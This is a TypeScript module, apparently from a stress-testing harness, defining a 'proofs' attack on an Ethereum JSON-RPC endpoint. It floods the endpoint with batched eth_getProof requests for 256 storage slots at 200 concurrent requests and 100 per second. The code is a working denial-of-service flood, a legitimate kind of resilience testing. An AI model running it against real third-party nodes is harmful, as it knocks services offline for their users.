import { type Attack, client, flood } from './attack.ts'

const SLOTS = 256

/** Large storage proofs in full batches, within the limit of an address. */
export const proofs: Attack = {
  name: 'proofs',
  async start({ url }) {
    const send = client(url)
    const home = await (await fetch(url, { headers: { accept: 'application/json' } })).json()
    const [, , address] = (home as { data: { registry: string } }).data.registry.split(':')
    const slots = Array.from({ length: SLOTS }, (_, i) => `0x${(i + 1).toString(16)}`)
    const params = [address, slots, 'latest']
    const proof = { jsonrpc: '2.0', id: 1, method: 'eth_getProof', params }
    const body = JSON.stringify(Array(10).fill(proof))
    const headers = { 'content-type': 'application/json' }
    return flood({ atOnce: 200, perSecond: 100 }, () =>
      send('/rpc', { method: 'POST', headers, body }),
    )
  },
}
